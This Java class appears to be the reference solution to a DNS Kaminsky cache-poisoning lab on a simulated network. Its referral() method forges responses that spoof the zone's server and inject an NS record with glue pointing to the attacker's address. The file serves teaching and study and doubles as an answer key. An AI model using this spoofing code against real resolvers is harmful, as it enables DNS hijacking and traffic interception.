package org.quintain.solutions.net.dnskaminsky;

import java.util.Optional;
import org.quintain.net.dnskaminsky.DnsKaminskyLab.Challenge;
import org.quintain.net.sim.TimedFrame;
import org.quintain.net.wire.Arp;
import org.quintain.net.wire.Dns;
import org.quintain.net.wire.DnsCursor;
import org.quintain.net.wire.DnsMessages;
import org.quintain.net.wire.DnsName;
import org.quintain.net.wire.DnsSection;
import org.quintain.net.wire.DnsType;
import org.quintain.net.wire.DnsWriter;
import org.quintain.net.wire.Endpoints;
import org.quintain.net.wire.Ethernet;
import org.quintain.net.wire.Flaw;
import org.quintain.net.wire.Frames;
import org.quintain.net.wire.Ipv4;
import org.quintain.net.wire.Ipv4Address;
import org.quintain.net.wire.Udp;

/** The frames of the attack, and what is read from those that come. */
final class Messages {
    /** The learner's own port for questions; any will do. */
    static final int OWN_PORT = 40_000;

    private static final int DAY_SECONDS = 86_400;

    private final long mac;
    private final int own;
    private final int resolver;
    private final int server;
    private final DnsName zone;
    private long gatewayMac;

    /** A DNS message that came: when, its identifier, the port it came from, and its question. */
    record Seen(long atMicros, boolean isResponse, int id, int port, DnsName name, byte[] message) {
        Dns dns() {
            Dns dns = new Dns();
            dns.wrap(message, 0, message.length);
            return dns;
        }
    }

    Messages(Challenge challenge) {
        mac = Long.parseLong(challenge.card().mac().toHex(), 16);
        own = Ipv4Address.of(challenge.ownAddress());
        resolver = Ipv4Address.of(challenge.resolver());
        server = Ipv4Address.of(challenge.server());
        zone = DnsName.of(challenge.zone());
    }

    /** Asks for the router's MAC; from the same packet the router learns where the learner is. */
    void findGateway(Recording recording, String gateway) {
        recording.send(Frames.arpRequest(mac, own, Ipv4Address.of(gateway)));
        Ethernet ethernet = new Ethernet();
        Arp arp = new Arp();
        for (TimedFrame timed : recording.listen(20_000)) {
            byte[] frame = timed.frame().toArray();
            if (ethernet.wrap(frame) == Flaw.NONE
                    && ethernet.type() == Ethernet.TYPE_ARP
                    && arp.wrap(ethernet) == Flaw.NONE
                    && arp.operation() == Arp.REPLY) {
                gatewayMac = arp.senderMac();
            }
        }
        if (gatewayMac == 0) {
            throw new IllegalStateException("a reply of the router wanted");
        }
    }

    private Endpoints to(int destination, int source) {
        return new Endpoints(mac, source, gatewayMac, destination);
    }

    /** A question to the resolver. */
    byte[] question(int id, String name) {
        return Frames.udp(
                to(resolver, own), OWN_PORT, Dns.PORT, DnsMessages.query(id, DnsName.of(name), DnsType.A, true));
    }

    /** An answer to a question of the resolver's: "it is here". */
    byte[] answer(Seen question) {
        DnsWriter writer = new DnsWriter().begin(question.id());
        writer.header().response(true).authoritative(true);
        writer.question(question.name(), DnsType.A).section(DnsSection.ANSWER).a(question.name(), DAY_SECONDS, own);
        return Frames.udp(to(resolver, own), Dns.PORT, question.port(), writer.toBytes());
    }

    /**
     * What the zone's server never said: "ask ns of the zone, who is at the learner's address". The server's name lies in
     * the zone, so that its address is believed with it.
     */
    byte[] referral(String name, int port) {
        DnsName nameServer = DnsName.of("ns." + zone);
        DnsWriter writer = new DnsWriter().begin(0);
        writer.header().response(true);
        writer.question(DnsName.of(name), DnsType.A)
                .section(DnsSection.AUTHORITY)
                .ns(zone, DAY_SECONDS, nameServer)
                .section(DnsSection.ADDITIONAL)
                .a(nameServer, DAY_SECONDS, own);
        return Frames.udp(to(resolver, server), Dns.PORT, port, writer.toBytes());
    }

    /** The DNS message in a frame from the resolver, if it is one. */
    Optional<Seen> read(TimedFrame timed) {
        byte[] frame = timed.frame().toArray();
        Ethernet ethernet = new Ethernet();
        Ipv4 ip = new Ipv4();
        Udp udp = new Udp();
        Dns dns = new Dns();
        DnsName name = new DnsName();
        if (ethernet.wrap(frame) != Flaw.NONE
                || ethernet.type() != Ethernet.TYPE_IPV4
                || ip.wrap(ethernet) != Flaw.NONE
                || ip.source() != resolver
                || ip.protocol() != Ipv4.PROTOCOL_UDP
                || udp.wrap(ip) != Flaw.NONE
                || dns.wrap(udp) != Flaw.NONE) {
            return Optional.empty();
        }
        DnsCursor cursor = new DnsCursor().wrap(dns);
        if (!cursor.next() || !cursor.isQuestion() || cursor.readName(name) != Flaw.NONE) {
            return Optional.empty();
        }
        byte[] message = java.util.Arrays.copyOfRange(frame, udp.payloadOffset(), udp.limit());
        return Optional.of(
                new Seen(timed.atMicros(), dns.isResponse(), dns.id(), udp.sourcePort(), name.copy(), message));
    }

    boolean isInZone(Seen seen) {
        return seen.name().isUnder(zone);
    }
}
